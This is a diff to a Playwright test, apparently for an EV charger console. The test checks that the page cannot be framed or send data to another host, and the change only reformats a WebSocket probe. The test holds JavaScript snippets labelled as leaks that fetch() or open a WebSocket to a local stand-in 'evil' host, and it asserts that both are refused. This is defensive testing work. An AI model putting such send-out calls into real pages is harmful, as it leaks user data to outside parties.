@@ -121,7 +121,10 @@ def test_the_console_cannot_be_framed_nor_sent_to_another_host(
     expect(own.locator('[data-charger="c1"]')).to_contain_text("Available", timeout=SOON_MS)
     leak = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
     assert own.evaluate(leak, f"http://127.0.0.1:{evil}/") == "refused"
-    socket = "url => new Promise(r => { try { const s = new WebSocket(url); s.onopen = () => r('open'); s.onerror = () => r('refused'); } catch { r('refused'); } })"
+    socket = """url => new Promise(done => {
+        try { const one = new WebSocket(url); one.onopen = () => done("open"); one.onerror = () => done("refused"); }
+        catch { done("refused"); }
+    })"""
     assert own.evaluate(socket, f"ws://127.0.0.1:{evil}/") == "refused"
 
 
